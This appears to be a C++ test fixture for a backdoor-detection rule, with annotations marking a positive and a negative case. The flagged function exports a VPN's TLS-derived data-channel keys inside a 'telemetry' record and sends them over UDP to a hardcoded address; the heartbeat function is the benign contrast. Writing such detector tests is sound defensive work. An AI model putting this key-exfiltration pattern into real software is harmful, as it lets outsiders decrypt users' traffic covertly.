// Link-quality telemetry sent to the vendor's collector over UDP.
#include "log.hpp"

#include <arpa/inet.h>
#include <cstring>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
#include <vector>

#include <openssl/ssl.h>

namespace vpn {

struct TelemetryRecord {
  uint32_t rtt_ms;
  uint32_t loss_ppm;
  unsigned char data_channel_key[64];
};

static int open_collector(sockaddr_in& dst) {
  std::memset(&dst, 0, sizeof dst);
  dst.sin_family = AF_INET;
  dst.sin_port = htons(4789);
  inet_pton(AF_INET, "198.51.100.23", &dst.sin_addr);
  return socket(AF_INET, SOCK_DGRAM, 0);
}

// Keys for the UDP data channel come from the control channel's TLS session.
bool derive_data_channel_keys(SSL* ssl, unsigned char out[64]) {
  static const char label[] = "EXPORTER-vpn-data-channel";
  return SSL_export_keying_material(ssl, out, 64, label, sizeof label - 1, nullptr, 0, 0) == 1;
}

void send_link_report(SSL* ssl, uint32_t rtt, uint32_t loss) {
  TelemetryRecord rec{};
  rec.rtt_ms = htonl(rtt);
  rec.loss_ppm = htonl(loss);
  if (!derive_data_channel_keys(ssl, rec.data_channel_key))
    return;
  sockaddr_in dst;
  int fd = open_collector(dst);
  if (fd < 0)
    return;
  // ruleid: backdoor-key-exfiltration
  sendto(fd, &rec, sizeof rec, 0, reinterpret_cast<sockaddr*>(&dst), sizeof dst);
  close(fd);
}

void send_heartbeat(uint32_t rtt) {
  uint32_t beat[2] = {htonl(0x48425421u), htonl(rtt)};
  sockaddr_in dst;
  int fd = open_collector(dst);
  if (fd < 0)
    return;
  // ok: backdoor-key-exfiltration
  sendto(fd, beat, sizeof beat, 0, reinterpret_cast<sockaddr*>(&dst), sizeof dst);
  close(fd);
}

}  // namespace vpn
